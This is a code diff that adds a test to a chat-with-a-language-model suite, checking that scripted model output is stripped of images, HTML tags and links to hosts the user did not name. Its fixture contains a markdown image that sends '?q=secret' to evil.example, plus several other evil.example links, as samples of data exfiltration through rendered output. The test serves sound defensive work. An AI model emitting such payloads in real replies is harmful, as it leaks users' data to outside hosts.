@@ -351,4 +351,16 @@ describe('chat with a language model', () => {
     await new Promise((resolve) => setTimeout(resolve, 1500));
     expect(traced).toBe(0);
   });
+
+  it('passes on no image, and links only to what the user has named', async () => {
+    script(() =>
+      say(
+        'It is [here](https://good.example/page), not ![pixel](https://evil.example/?q=secret) or [there](https://evil.example/x), <img src="https://evil.example/y"> see [n].\n\n[n]: https://evil.example/z',
+      ),
+    );
+    const answer = await askChat(server, 'Do you know https://good.example/page well?');
+    const shown = 'It is [here](https://good.example/page), not pixel or there,  see [n].';
+    expect(answer.text.trim()).toBe(shown);
+    expect(answer.done.text).toBe(shown);
+  });
 });
